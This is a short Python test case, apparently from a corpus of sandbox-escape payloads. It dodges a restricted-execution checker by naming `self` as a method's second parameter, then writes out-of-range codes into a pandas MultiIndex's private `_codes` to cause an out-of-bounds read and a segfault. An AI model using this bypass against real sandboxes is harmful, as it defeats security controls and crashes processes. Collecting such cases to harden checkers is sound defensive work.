# source: pyjail 'unbound method with foreign self' (RestrictedPython/asteval class-method escapes), adapted
# family: `self` as a method's SECOND positional parameter: the check trusts every name `self` in a class's def
# goal: writes MultiIndex._codes on a library object -> out-of-bounds take -> segfault
import numpy as np
import pandas as pd

mi = pd.MultiIndex.from_arrays([["a", "b"], [1, 2]])
bad = [np.array([1000000000, 0]), np.array([0, 1])]

class C:
    def setc(this, self):
        self._codes = bad
        return 1


C().setc(mi)
print(mi.values)
